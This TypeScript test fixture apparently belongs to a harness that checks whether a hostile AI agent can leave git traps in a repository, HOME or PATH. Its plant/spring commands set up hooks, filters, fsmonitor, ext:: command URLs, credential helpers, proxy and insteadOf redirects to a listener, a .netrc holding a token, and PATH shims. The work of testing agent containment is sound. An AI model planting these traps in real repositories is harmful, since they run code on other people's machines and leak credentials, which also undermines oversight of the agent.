// What a hostile agent leaves in its repository, its HOME and on its PATH, and how plain git falls for it.

/** Shell of the agent, in the work tree. There are: `$EVIL` (leaves a mark, then passes its input on), `$PROOF` (the mark), `$FORGE`, `$LISTENER`. */
export interface Trap {
  plant: string
  /** What anybody might run in a copy of the tree; it must spring the trap. */
  spring: string
  /** Changed files of the pull request besides `src/a.txt`. */
  files?: readonly string[]
}

const config = (name: string, value: string) => `git config "${name}" "${value}"`
const everything = 'printf "* filter=evil diff=evil merge=evil\\n"'
const commit = "git add --all; git commit -qm x"
const HOOKS = [
  ...["pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "pre-push", "post-checkout", "post-index-change"],
  ...["reference-transaction", "post-merge", "pre-auto-gc", "post-rewrite", "pre-rebase", "applypatch-msg", "update", "pre-receive"],
]
const hooksIn = (folder: string) => `mkdir -p "${folder}"; for hook in ${HOOKS.join(" ")}; do cp "$EVIL" "${folder}/$hook"; done`
const nested = `git init -q nested; cd nested; echo n > n.txt; git add .; git commit -qm n; git config core.fsmonitor "$EVIL"; ${hooksIn(".git/hooks")}; cd ..`
const elsewhere = `cp -a .git "$HOME/elsewhere"; git --git-dir="$HOME/elsewhere" config core.fsmonitor "$EVIL"; rm -rf .git`
const gitModules = (url: string) =>
  `git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),mod; printf '[submodule "mod"]\\n\\tpath = mod\\n\\turl = ${url}\\n\\tupdate = checkout\\n' > .gitmodules; git config submodule.recurse true; git config protocol.ext.allow always; git config protocol.file.allow always`

export const TRAPS: Readonly<Record<string, Trap>> = {
  "hooks in .git/hooks": { plant: hooksIn(".git/hooks"), spring: commit },
  "hooks by core.hooksPath": { plant: `${hooksIn("$HOME/hooks")}; ${config("core.hooksPath", "$HOME/hooks")}`, spring: commit },
  "a hook of the push": {
    plant: hooksIn(".git/hooks"),
    spring: 'rm .git/hooks/[!p]* .git/hooks/po*; git push "$LISTENER/x.git" HEAD:refs/heads/x',
  },
  "a clean filter": {
    plant: `${everything} > .gitattributes; ${config("filter.evil.clean", "$EVIL")}`,
    spring: "git add --all",
    files: [".gitattributes"],
  },
  "a smudge filter": {
    plant: `${everything} > .gitattributes; ${config("filter.evil.smudge", "$EVIL")}`,
    spring: "rm src/a.txt; git checkout -- src/a.txt",
    files: [".gitattributes"],
  },
  "a process filter that is required": {
    plant: `${everything} > .gitattributes; ${config("filter.evil.process", "$EVIL")}; ${config("filter.evil.required", "true")}`,
    spring: "git add --all",
    files: [".gitattributes"],
  },
  "the name of our own filter": {
    plant: `mkdir .git/info; printf "* filter=lfs\\n" > .git/info/attributes; ${config("filter.lfs.process", "$EVIL")}`,
    spring: "git add --all",
  },
  "core.fsmonitor": { plant: config("core.fsmonitor", "$EVIL"), spring: "git status" },
  "url.insteadOf": { plant: config("url.$LISTENER/.insteadOf", "$FORGE"), spring: 'git fetch "$FORGE/acme/demo.git"' },
  "url.pushInsteadOf": {
    plant: config("url.$LISTENER/.pushInsteadOf", "$FORGE"),
    spring: 'git push "$FORGE/acme/demo.git" HEAD:refs/heads/x',
  },
  "an address that is a command": {
    plant: `${config("url.ext::$EVIL .insteadOf", "$FORGE")}; ${config("protocol.ext.allow", "always")}`,
    spring: 'git fetch "$FORGE/acme/demo.git"',
  },
  "a proxy": { plant: config("http.proxy", "$LISTENER"), spring: "git fetch origin" },
  "info/attributes": {
    plant: `mkdir .git/info; ${everything} > .git/info/attributes; ${config("filter.evil.clean", "$EVIL")}`,
    spring: "git add --all",
  },
  "core.attributesFile": {
    plant: `${everything} > "$HOME/attributes"; ${config("core.attributesFile", "$HOME/attributes")}; ${config("filter.evil.clean", "$EVIL")}`,
    spring: "git add --all",
  },
  "export-subst": {
    plant: `printf 'subst.txt export-subst\\n' > .gitattributes; printf '$Format:%%ae$\\n' > subst.txt`,
    spring: `${commit}; git archive HEAD subst.txt | tar -xO | grep -q Format || touch "$PROOF"`,
    files: [".gitattributes", "subst.txt"],
  },
  "a text conversion": {
    plant: `${everything} > .gitattributes; ${config("diff.evil.textconv", "$EVIL")}`,
    spring: "git diff",
    files: [".gitattributes"],
  },
  "a diff program": {
    plant: `${everything} > .gitattributes; ${config("diff.evil.command", "$EVIL")}; ${config("diff.external", "$EVIL")}`,
    spring: "git diff",
    files: [".gitattributes"],
  },
  "a merge driver": {
    plant: `${everything} > .gitattributes; ${config("merge.evil.driver", "$EVIL")}`,
    spring: `${commit}; git checkout -qb other HEAD^; echo other > src/a.txt; cp ../repo/.gitattributes .; ${commit}; git merge -q -`,
    files: [".gitattributes"],
  },
  "core.sshCommand": {
    plant: `${config("core.sshCommand", "$EVIL")}; ${config("url.ssh://host/.insteadOf", "$FORGE/")}`,
    spring: 'git fetch "$FORGE/acme/demo.git"',
  },
  "a credential helper": { plant: config("credential.helper", "!$EVIL"), spring: 'git fetch "$FORGE/acme/demo.git"' },
  "core.askPass": { plant: config("core.askPass", "$EVIL"), spring: 'git fetch "$FORGE/acme/demo.git"' },
  "a .netrc": {
    plant: `printf 'default login x-access-token password stolen\\n' > "$HOME/.netrc"; ${config("url.$LISTENER/.insteadOf", "$FORGE")}`,
    spring: 'git fetch "$FORGE/acme/demo.git"',
  },
  "an alias": { plant: config("alias.push-it", "!$EVIL"), spring: "git push-it" },
  "include.path": {
    plant: `git config --file "$HOME/included" core.fsmonitor "$EVIL"; ${config("include.path", "$HOME/included")}`,
    spring: "git status",
  },
  "a program that signs": {
    plant: `${config("commit.gpgSign", "true")}; ${config("gpg.program", "$EVIL")}; ${config("push.gpgSign", "true")}`,
    spring: commit,
  },
  "an editor": { plant: config("core.editor", "$EVIL"), spring: "git add --all; git commit" },
  "a submodule that is a command": {
    plant: gitModules("ext::$EVIL"),
    spring: `sed -i "s|ext::.*|ext::$EVIL|" .gitmodules; git -c protocol.ext.allow=always submodule update --init`,
    files: [".gitmodules"],
  },
  "a submodule of this machine": {
    plant: `git init -q "$HOME/secret"; ${gitModules("$HOME/secret")}`,
    spring: `sed -i "s|url = .*|url = $HOME/secret|" .gitmodules; git -c protocol.file.allow=always submodule update --init; ls .git/modules/mod && touch "$PROOF"`,
    files: [".gitmodules"],
  },
  "a submodule whose address is an option": {
    plant: gitModules("--upload-pack=touch"),
    // git refuses it by itself since 2.17.3; before, it was run. What it reads instead is shown.
    spring: `git config --file .gitmodules submodule.mod.url | grep -q upload-pack && touch "$PROOF"`,
    files: [".gitmodules"],
  },
  ".git as a file that leads elsewhere": { plant: `${elsewhere}; echo "gitdir: $HOME/elsewhere" > .git`, spring: "git status" },
  ".git as a link that leads elsewhere": { plant: `${elsewhere}; ln -s "$HOME/elsewhere" .git`, spring: "git status" },
  "no .git at all, and one above": {
    plant: `rm -rf .git; git init -q ..; git -C .. config core.fsmonitor "$EVIL"`,
    spring: "git status",
  },
  "core.worktree": {
    plant: `mkdir "$HOME/tree"; echo x > "$HOME/tree/theirs"; ${config("core.worktree", "$HOME/tree")}`,
    spring: `git add --all; git ls-files | grep theirs && touch "$PROOF"`,
  },
  "a repository in the repository": { plant: nested, spring: "git -C nested status", files: ["nested/n.txt"] },
  "a bare repository among the files": {
    plant: `git init -q --bare bare; rm -rf bare/hooks bare/info bare/description; ${hooksIn("bare/hooks")}; rm bare/hooks/[!p]* bare/hooks/pr*; echo x > bare/objects/x; echo x > bare/refs/x; git -C bare config core.bare false; git -C bare config core.worktree ..; git -C bare config core.fsmonitor "$EVIL"`,
    spring: "cd bare; git status",
    files: [
      "bare/HEAD",
      "bare/config",
      "bare/hooks/post-checkout",
      "bare/hooks/post-commit",
      "bare/hooks/post-index-change",
      "bare/hooks/post-merge",
      "bare/hooks/post-rewrite",
      "bare/objects/x",
      "bare/refs/x",
    ],
  },
  "links that lead out": {
    plant: `echo secret > "$HOME/secret"; ln -s "$HOME/secret" link; ln -s "$HOME" folder`,
    spring: `cp -rL . ../followed; grep -q secret ../followed/link && touch "$PROOF"`,
    files: ["folder", "link"],
  },
  "objects from elsewhere": {
    plant: `git init -q "$HOME/other"; echo other > "$HOME/other/x"; blob=$(git -C "$HOME/other" hash-object -w x); echo "$HOME/other/.git/objects" > .git/objects/info/alternates`,
    spring: `git cat-file -e "$(echo other | git hash-object --stdin)" && touch "$PROOF"`,
  },
  "replaced objects": {
    plant: `git replace "$(git rev-parse HEAD)" "$(git commit-tree "$(git mktree < /dev/null)" -m evil)"`,
    spring: `git log --format=%s | grep -q evil && touch "$PROOF"`,
  },
  "files that the index hides": {
    plant: `git update-index --assume-unchanged src/a.txt; git update-index --skip-worktree README.md; echo more >> README.md`,
    spring: `git add --all; git diff --cached --quiet && touch "$PROOF"`,
    files: ["README.md"],
  },
  "files that info/exclude hides": {
    plant: `mkdir .git/info; echo hidden > .git/info/exclude; echo x > hidden`,
    spring: `git status --porcelain | grep hidden || touch "$PROOF"`,
    files: ["hidden"],
  },
  "the configuration in HOME": {
    plant: `git config --global core.fsmonitor "$EVIL"; git config --global credential.helper "$EVIL"; mkdir -p "$HOME/.config/git"; cp "$HOME/.gitconfig" "$HOME/.config/git/config"; ${everything} > "$HOME/.config/git/attributes"`,
    spring: "git status",
  },
  "files that HOME hides": {
    plant: `mkdir -p "$HOME/.config/git"; echo hidden > "$HOME/.config/git/ignore"; echo x > hidden`,
    spring: `git status --porcelain | grep hidden || touch "$PROOF"`,
    files: ["hidden"],
  },
  "variables in the profile of HOME": {
    plant: `printf 'export GIT_SSH_COMMAND=%s GIT_ASKPASS=%s GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=%s\\n' "$EVIL" "$EVIL" "$EVIL" | tee "$HOME/.profile" "$HOME/.bashrc" "$HOME/.bash_profile" > "$HOME/.shrc"`,
    spring: "sh -lc 'git status'",
  },
  "programs of our names first on the PATH": {
    plant: `for name in git git-lfs git-remote-http tar sh sed; do printf '#!/bin/sh\\necho ran >> %s\\nexec /usr/bin/%s "$@"\\n' "$PROOF" "$name" > "$BIN/$name"; chmod +x "$BIN/$name"; done`,
    spring: "git status; tar --version",
  },
}
